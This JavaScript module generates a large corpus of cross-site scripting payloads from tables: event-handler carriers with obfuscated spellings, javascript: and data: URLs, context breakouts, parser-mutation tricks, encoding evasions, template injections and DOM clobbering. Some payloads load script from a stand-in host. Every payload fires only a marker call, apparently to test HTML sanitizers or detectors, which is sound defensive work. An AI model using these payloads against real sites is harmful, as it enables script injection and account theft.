/*
 * payloads.mjs - what people who mean it ill would write into a field: made of tables, so
 * that a new trick is a row. Whatever runs calls __x(number) or asks for /xss-number;
 * lures.mjs listens to both. `bait(number)` is one of them; two with the same number
 * removed are the same payload, so CORPUS holds each once.
 */

const q = text => text.replace(/[^]/g, letter => `&#${letter.codePointAt(0)};`);
const hex = text => text.replace(/[^]/g, letter => `&#x${letter.codePointAt(0).toString(16)}`);
const base64 = text => Buffer.from(text).toString("base64");

// ---- elements that run something by an event, however their attribute is written ------

const CARRIERS = [
    code => ["img src=x", "onerror", code],
    code => ["img src=/xss-none srcset=x", "onerror", code],
    code => ["svg", "onload", code],
    code => ["body", "onload", code],
    code => ["body", "onpageshow", code],
    code => ["details open", "ontoggle", code, "x</details>"],
    code => ["video src=x", "onerror", code, "</video>"],
    code => ["video", "onloadstart", code, "<source src=x></video>"],
    code => ["audio src=x", "onerror", code, "</audio>"],
    code => ["input autofocus", "onfocus", code],
    code => ["textarea autofocus", "onfocus", code, "</textarea>"],
    code => ["select autofocus", "onfocus", code, "</select>"],
    code => ["button autofocus", "onfocus", code, "x</button>"],
    code => ["p tabindex=0 autofocus", "onfocus", code, "x</p>"],
    code => ["xa-la tabindex=0 autofocus", "onfocus", code, "x</xa-la>"],
    code => ["p contenteditable", "onbeforeinput", code, "x</p>"],
    code => ["marquee", "onstart", code, "x</marquee>"],
    code => ["object data=x", "onerror", code, "</object>"],
    code => ["iframe", "onload", code, "</iframe>"],
    code => ["style", "onload", code, "</style>"],
    code => ["link rel=stylesheet href=x", "onerror", code],
    code => ["script src=x", "onerror", code, "</script>"],
    code => ["p style=animation:x", "onanimationstart", code, "<style>@keyframes x{}</style></p>"],
    code => ["a href=#", "onclick", code, "x</a>"],
    code => ["strong", "onmouseover", code, "x</strong>"],
    code => ["table background=x", "onpointerenter", code, "<tr><td>x</table>"],
    code => ["td", "onauxclick", code, "x</td>"],
    code => ["h2", "oncopy", code, "x</h2>"],
    code => ["svg><animate attributeName=x dur=1s", "onbegin", code, "</svg>"],
    code => ["svg><image href=x", "onerror", code, "</svg>"],
    code => ["math><mi", "onclick", code, "x</math>"],
];

// How the attribute stands in its tag.
const SPELLINGS = [
    ([tag, event, code, rest = ""]) => `<${tag} ${event}=${code}>${rest}`,
    ([tag, event, code, rest = ""]) => `<${tag} ${event}="${code}">${rest}`,
    ([tag, event, code, rest = ""]) => `<${tag} ${event} = '${code}' >${rest}`,
    ([tag, event, code, rest = ""]) => `<${tag.replace(/ /g, "/")}/${event}=${code}/>${rest}`,
    ([tag, event, code, rest = ""]) => `<${tag}\n\f\t${event.toUpperCase()}\n=\n${q(code)}>${rest}`,
    ([tag, event, code, rest = ""]) => `<${tag} x=">" ${event}="&#32;${hex(code)};"\n>${rest}`,
    ([tag, event, code, rest = ""]) => `<<${tag} title='"' ${event}=${code} <p>${rest}`,
];

function byEvent() {
    return CARRIERS.flatMap(carrier => SPELLINGS.map(spell => code => spell(carrier(code))));
}

// ---- addresses that are programs -------------------------------------------------------

const SCHEMES = [
    code => `javascript:${code}`,
    code => `JaVaScRiPt:${code}`,
    code => ` \u0001\u001f javascript:${code}`,
    code => `java\tscript:${code}`,
    code => `java\nscript:${code}`,
    code => `java\r\nscript\t:${code}`,
    code => `java&Tab;scr&NewLine;ipt&colon;${code}`,
    code => `${q("javascript:")}${code}`,
    code => `${hex("javascript")};:${code}`,
    code => `&#0000106avascript&#x0003A;${code}`,
    code => `&#1;&#14;javascript:${code}`,
    code => `javascript://dia.chi.vn/%0a${code}`,
    code => `javascript:/*&#42;/${code}`,
    code => `javascript&#58;${encodeURIComponent(code)}`,
    code => `\uFEFFjavascript:${code}`,
    code => `java\u200Bscript:${code}`,
    code => `vbscript:${code}`,
    code => `data:text/html,<script>${code}</script>`,
    code => `data:text/html;base64,${base64(`<script>${code}</script>`)}`,
    code => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${code}'/>`,
    code => `DATA:application/xhtml+xml,<x:script xmlns:x='http://www.w3.org/1999/xhtml'>${code}</x:script>`,
    code => `view-source:javascript:${code}`,
    code => `/\\ke-xau.example/${code.replace(/\D/g, "")}`,
    code => `/\t/ke-xau.example/${code.replace(/\D/g, "")}`,
];

const HOLDERS = [
    url => `<a href="${url}">xem</a>`,
    url => `<a href='${url}' target=_blank rel=opener>xem</a>`,
    url => `<iframe src="${url}"></iframe>`,
    url => `<form action="${url}"><button>gửi</button></form>`,
    url => `<form><button formaction="${url}">gửi</button></form>`,
    url => `<object data="${url}"></object>`,
    url => `<embed src="${url}">`,
    url => `<svg><a xlink:href="${url}"><text y=9>xem</text></a></svg>`,
    url => `<math><mi href="${url}" xlink:href="${url}">xem</mi></math>`,
    url => `<meta http-equiv=refresh content="0;url=${url}">`,
    url => `<img src="${url}" alt=x>`,
];

function byAddress() {
    return SCHEMES.flatMap(scheme => HOLDERS.map(hold => code => hold(scheme(code).replace(/"/g, "&quot;"))));
}

// ---- out of what is around: texts, attributes, scripts -----------------------------------

const ENDS = [
    "</title>", "</textarea>", "</style>", "</script>", "</noscript>", "</template>", "</select>",
    "</xmp>", "</iframe>", "</noembed>", "</svg>", "</math>", "</option></select>", "</p></main>",
    "-->", "--!>", "<!-->", "]]>", "<![CDATA[", "<!--", "<?xml ?>", "<!DOCTYPE x [>", '">', "'>",
    '"/>', "`>", '\\">', '\\u0022>', '"}]}</script>', "'}</script>", "&quot;&gt;", "%22%3E", "</>", "<//",
];
const THEN = [
    code => `<img src=x onerror=${code}>`,
    code => `<svg/onload=${code}>`,
    code => `<script>${code}</script>`,
];
const INSIDE = [
    (quote, code) => `${quote} onfocus=${code} autofocus tabindex=0 x=${quote}`,
    (quote, code) => `${quote}onerror=${quote}${code}${quote}src=${quote}x`,
    (quote, code) => `x${quote} style=${quote}animation:x${quote} onanimationstart=${quote}${code}`,
    (quote, code) => `${quote}\tonmouseover\n=\n${code}//`,
    (quote, code) => `${quote}-${code}-${quote}`,
    (quote, code) => `${quote};${code};//`,
    (quote, code) => `\\${quote};${code};//`,
    (quote, code) => `${quote}+${code}+${quote}\u2028${code}`,
];

function byBreakingOut() {
    const behind = ENDS.flatMap(end => THEN.map(then => code => end + then(code)));
    const quotes = ['"', "'", "`", " "];
    return [...behind, ...quotes.flatMap(quote => INSIDE.map(inside => code => inside(quote, code)))];
}

// ---- what two parsers read differently --------------------------------------------------

const FOREIGN = ["svg><title", "svg><desc", "svg><foreignObject", "math><mtext", "math><annotation-xml encoding=text/html", "math><mglyph", "table><caption"];
const RAW = ["style", "xmp", "noembed", "noframes", "noscript", "iframe", "textarea", "title", "script type=x", "template"];

function byMutation() {
    const made = FOREIGN.flatMap(foreign =>
        RAW.map(raw => code => {
            const name = raw.split(" ")[0];
            return `<${foreign}><${raw}><p title="</${name}><img src=x onerror=${code}>"></${name}>`;
        }),
    );
    const by_hand = [
        code => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${code}&gt;">`,
        code => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${code}>`,
        code => `<svg></p><style><a id="</style><img src=x onerror=${code}>">`,
        code => `<noscript><p title="</noscript><img src=x onerror=${code}>">`,
        code => `<p><svg><style><!--</style><p title="--><img src=x onerror=${code}>">`,
        code => `<table><td><svg><desc><td><style><img src=x onerror=${code}></style>`,
        code => `<select><template><img src=x onerror=${code}></template></select><img src=x onerror=${code}>`,
        code => `<template><p shadowrootmode=open><img src=x onerror=${code}></template>`,
        code => `<div><template shadowrootmode=open><img src=x onerror=${code}></template></div>`,
        code => `<listing>&lt;img src=x onerror=${code}&gt;</listing>`,
        code => `<pre>&lt;img src=x onerror=${code}&gt;</pre>`,
        code => `<xmp><p id="</xmp><img src=x onerror=${code}>"></xmp>`,
        code => `&lt;script&gt;${code}&lt;/script&gt;`,
        code => `&amp;lt;img src=x onerror=${code}&amp;gt;`,
        code => `<a title="&lt;/a>&lt;img src=x onerror=${code}>" href=/tin-tuc>x</a>`,
        code => `<img alt="<x" title="/><img src=x onerror=${code}>">`,
        code => `<img alt="\`><img src=x onerror=${code}>\`">`,
        code => `<a href="/tep/x?&quot;&gt;&lt;img src=x onerror=${code}&gt;">x</a>`,
        code => `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><a href='javascript:${code}'/></svg>#x"/></svg>`,
        code => `<svg><set attributeName=href to=javascript:${code}><a><text y=9>x</text></a></svg>`,
        code => `<svg><a><animate attributeName=href values=javascript:${code} /><text y=9>x</text></a></svg>`,
        code => `<svg><script>${q(code)}</script></svg>`,
        code => `<svg><script href="data:,${code}"/></svg>`,
        code => `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${code}</handler></svg>`,
        code => `<math><annotation-xml encoding="application/xhtml+xml"><img src=x onerror=${code}></annotation-xml></math>`,
        code => `<math><maction actiontype="statusline#javascript:${code}" xlink:href="javascript:${code}">x</maction></math>`,
        code => `<p><table><tr><p><a><svg><title><a><img src=x onerror=${code}>`,
        code => `<b><i><a><b><i><table><a><math><mi><style></b><img src=x onerror=${code}></style>`,
        code => `<plaintext><img src=x onerror=${code}>`,
        code => `<image src=x onerror=${code}>`,
        code => `<isindex action=javascript:${code} type=submit>`,
        code => `<frameset onload=${code}><frame src=javascript:${code}></frameset>`,
        code => `</br><svg onload=${code}></p>`,
        code => `</p onclick=${code}><p/onclick=${code}>`,
        code => `${"<b>".repeat(120)}<svg><style>${"</b>".repeat(9)}<img src=x onerror=${code}>`,
        code => `${"<svg>".repeat(80)}<foreignObject><img src=x onerror=${code}>`,
    ];
    return [...made, ...by_hand];
}

// ---- one by one: scripts, styles, frames, Word, letters, templates, plain text --------------

const SINGLE = [
    code => `<script>${code}</script>`,
    code => `<SCRIPT type=module>${code}</SCRIPT >`,
    code => `<script/x>${code}</script\n>`,
    code => `<script\n>${code}`,
    code => `<script src=data:,${code}></script>`,
    code => `<script src=/xss-${code.replace(/\D/g, "")}.js></script>`,
    code => `<script type=text/javascript language=vbscript>${code}</script>`,
    code => `<scr<script>ipt>${code}</scr</script>ipt>`,
    code => `<scr\0ipt>${code}</scr\0ipt>`,
    code => `<img src=x one\0rror=${code}>`,
    code => `<script>/*<!--<script>*/${code}/*</script>-->*/</script>`,
    code => `<script type=importmap>{"imports":{"x":"data:text/javascript,${code}"}}</script><script type=module>import "x"</script>`,
    code => `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${code}</x:script>`,
    code => `<!doctype html><html><head><script>${code}</script></head><body onload=${code}>`,
    code => `<base href=//ke-xau.example/><script src=/xss-${code.replace(/\D/g, "")}.js></script>`,
    code => `<base href="javascript:/a/-${code}//"><a href=#>x</a>`,
    code => `<meta http-equiv=refresh content=0;/xss-${code.replace(/\D/g, "")}>`,
    code => `<meta http-equiv=Content-Security-Policy content="script-src * 'unsafe-inline'"><script>${code}</script>`,
    code => `<meta charset=utf-7>+ADw-script+AD4-${code}+ADw-/script+AD4-`,
    code => `+ADw-img src+AD0-x onerror+AD0-${code}+AD4-`,
    code => `<link rel=stylesheet href=/xss-${code.replace(/\D/g, "")}.css>`,
    code => `<link rel=prefetch href=/xss-${code.replace(/\D/g, "")}>`,
    code => `<link rel=import href="data:text/html,<script>${code}</script>">`,
    code => `<iframe srcdoc="<script>${code}</script>"></iframe>`,
    code => `<iframe srcdoc="&lt;img src=x onerror=${code}&gt;"></iframe>`,
    code => `<iframe srcdoc="${q(`<svg onload=${code}>`)}" sandbox="allow-scripts allow-same-origin"></iframe>`,
    code => `<iframe src=/xss-${code.replace(/\D/g, "")}></iframe>`,
    code => `<portal src=javascript:${code}></portal>`,
    code => `<fencedframe src=/xss-${code.replace(/\D/g, "")}></fencedframe>`,
    code => `<applet code=x archive=/xss-${code.replace(/\D/g, "")} onerror=${code}></applet>`,
    code => `<object type=text/html data="data:text/html,<script>${code}</script>"></object>`,
    code => `<object><param name=movie value=javascript:${code}></object>`,
    code => `<embed type=image/svg+xml src="data:image/svg+xml;base64,${base64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${code}"/>`)}">`,
    code => `<img src=/xss-${code.replace(/\D/g, "")}.png>`,
    code => `<img srcset="/xss-${code.replace(/\D/g, "")}.png 1x">`,
    code => `<video poster=/xss-${code.replace(/\D/g, "")}.png></video>`,
    code => `<input type=image src=/xss-${code.replace(/\D/g, "")} onerror=${code}>`,
    code => `<p style="background:url(/xss-${code.replace(/\D/g, "")})">x</p>`,
    code => `<p style="background:\\75rl('/xss-${code.replace(/\D/g, "")}')">x</p>`,
    code => `<p style="width:expression(${code})">x</p>`,
    code => `<p style="-moz-binding:url(data:text/xml,${code})">x</p>`,
    code => `<style>@import '/xss-${code.replace(/\D/g, "")}.css';</style>`,
    code => `<style>body{background:url("javascript:${code}")}</style>`,
    code => `<style><img src="</style><img src=x onerror=${code}//">`,
    code => `<style>/*</style><svg onload=${code}>*/</style>`,
    code => `<p style="position:fixed;inset:0;z-index:9999"><a href="javascript:${code}">x</a></p>`,
    code => `<table background=javascript:${code}><tr><td background="/xss-${code.replace(/\D/g, "")}">x</table>`,
    code => `<a ping=/xss-${code.replace(/\D/g, "")} href=/tin-tuc onclick=${code}>x</a>`,
    code => `<button popovertarget=a>x</button><p popover id=a onbeforetoggle=${code}>x</p>`,
    code => `<button command=show-modal commandfor=b>x</button><dialog id=b onclose=${code} open>x</dialog>`,
    code => `<!--[if gte mso 9]><script>${code}</script><![endif]-->`,
    code => `<!--[if gte IE 4]><img src=x onerror=${code}><![endif]-->`,
    code => `<![if !vml]><img src=x onerror=${code}><![endif]>`,
    code => `<!--[if !mso]><!--><svg onload=${code}><!--<![endif]-->`,
    code => `<xml><o:OfficeDocumentSettings onload=${code}><script>${code}</script></o:OfficeDocumentSettings></xml>`,
    code => `<v:shape onload=${code}><v:imagedata src="javascript:${code}" o:title=""/></v:shape>`,
    code => `<p class=MsoNormal style='mso-element:"><img src=x onerror=${code}>'>x<o:p onclick=${code}></o:p></p>`,
    code => `<html xmlns:o="urn:schemas-microsoft-com:office:office"><style>@page{mso-x:"</style><img src=x onerror=${code}>"}</style>`,
    code => `<?xml:namespace prefix="o" ns="urn:x"/><o:p onload=${code}><?php echo "<script>${code}</script>" ?>`,
    code => `<?import namespace="t" implementation="#default#time2"><t:set attributeName="innerHTML" to="<img src=x onerror=${code}>">`,
    code => `<% <script>${code}</script> %>`,
    code => `\uFEFF<script>${code}</script>`,
    code => `\u202E<script>${code}</script>\u202C`,
    code => `\uFF1Cscript\uFF1E${code}\uFF1C/script\uFF1E`,
    code => `\u2039img src=x onerror=${code}\u203A`,
    code => `\u{13C}img src=x onerror=${code}\u{13E}`,
    code => `\u{1F13C}script\u{1F13E}${code}`,
    code => `\xC0\xBCscript\xC0\xBE${code}\xC0\xBC/script\xC0\xBE`,
    code => `<\u0300img src=x onerror=${code}><\u200Dsvg onload=${code}>`,
    code => `<img\u00A0src=x\u3000onerror=${code}>`,
    code => `<img src=x\u2028onerror=${code}>`,
    code => `\x1b$B<img src=x onerror=${code}>\x1b(B`,
    code => `<\0\0svg onload=${code}>`,
    code => `\x08<svg\x0bonload=${code}>`,
    code => `{{constructor.constructor('${code}')()}}`,
    code => `{{{<img src=x onerror=${code}>}}}`,
    code => `{{{inline.script}}}<script>${code}</script>{{> partials/head}}`,
    code => `{{=<% %>=}}<%& x %><svg onload=${code}>`,
    code => `\${${code}}`,
    code => `#{${code}}<%= ${code} %>[[${code}]]`,
    code => `\\u003cimg src=x onerror=${code}\\u003e`,
    code => `\\x3cscript\\x3e${code}\\x3c/script\\x3e`,
    code => `%3Cscript%3E${code}%3C/script%3E`,
    code => `%253Csvg%20onload%3D${code}%253E`,
    code => `\u2028${code}\u2029//`,
    code => `<!--<script>${code}`,
    code => `*/${code}/*`,
    code => `\n${code}\n//`,
    code => `[xem](javascript:${code})`,
    code => `[xem](<javascript:${code}>)`,
    code => `![ảnh](x" onerror="${code})`,
    code => `![ảnh](javascript:${code} "x")`,
    code => `[xem]: javascript:${code}\n[xem]`,
    code => `[xem](data:text/html;base64,${base64(`<script>${code}</script>`)})`,
    code => `<javascript:${code}>`,
    code => `# <img src=x onerror=${code}>`,
    code => `- <svg onload=${code}>\n  - **<b onclick=${code}>x</b>**`,
    code => `1. *<img src=x onerror=${code}>*\n\n> <script>${code}</script>`,
    code => `**"><img src=x onerror=${code}>**`,
    code => `https://dia.chi.vn/"onmouseover="${code}"`,
    code => `https://dia.chi.vn/'><svg onload=${code}>`,
    code => `http://javascript:${code}@dia.chi.vn/<svg onload=${code}>`,
    code => `mailto:"><img src=x onerror=${code}>@dia.chi.vn`,
    code => `tel:0912"onclick="${code}`,
    // Read as a page, a script and a drawing at once.
    code => `/*--></title></style></textarea></script><svg/onload=${code}>`,
    code => `'"\`--></noscript></xmp></template><img src=x onerror=${code}>/*`,
    code => `javascript:/*"/*'/*\`/*--></select></math></svg><svg onload='/*"/**/${code}//'>`,
    code => `GIF89a/*<svg onload=${code}>*/=1;${code}`,
    code => `<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="${code}"/></foreignObject></svg>`,
    code => `%PDF-1.4 <script>${code}</script> 1 0 obj<</S/JavaScript/JS(${code})>>`,
    code => `<?xml version="1.0"?><?xml-stylesheet href="javascript:${code}"?><x/>`,
    code => `<!DOCTYPE x [<!ENTITY a "<img src=x onerror=${code}>">]>&a;`,
];

// ---- names that take the place of the browser's own -----------------------------------------

const OWN_NAMES = ["body", "cookie", "forms", "getElementById", "querySelector", "createElement", "addEventListener", "location", "documentElement", "head", "title", "activeElement", "__x", "soan"];
const NAMERS = [
    name => `<img name=${name} src=/tep/x.png>`,
    name => `<form id=${name}><input name=attributes><input name=action value=/xss-none></form>`,
    name => `<a id=${name}></a><a id=${name} name=href href=/xss-none></a>`,
];

function byName() {
    return OWN_NAMES.flatMap(name => NAMERS.map(namer => code => `${namer(name)}<b data-x="${code}"></b>`));
}

const FAMILIES = { byEvent, byAddress, byBreakingOut, byMutation, one_by_one: () => SINGLE, byName };

// [ { id, family, bait: text } ]; ids begin at 1000, so that no other number is one.
function makeCorpus() {
    const seen = new Set(),
        made = [];
    for (const [family, list] of Object.entries(FAMILIES))
        for (const make of list()) {
            const model = make("__x(0)");
            if (seen.has(model)) continue;
            seen.add(model);
            const id = 1000 + made.length;
            made.push({ id, family, bait: make(`__x(${id})`) });
        }
    return made;
}

export const CORPUS = makeCorpus();

// These everybody knows: a listener that misses one of them is deaf.
export const WELL_KNOWN = [
    ["<script>", "by a script"],
    ["<img src=x onerror=", "by a picture that fails"],
    ["<svg onload=", "by a drawing"],
    ["<details open ontoggle=", "by a fold"],
    ["<input autofocus onfocus=", "by the focus"],
    ["<iframe srcdoc=", "by a frame"],
    ["<iframe src=\"javascript:", "by an address"],
    ["<body onload=", "by the body"],
    ["<video src=x onerror=", "by a video"],
    ["<meta http-equiv=refresh content=0;/xss", "by leaving"],
];
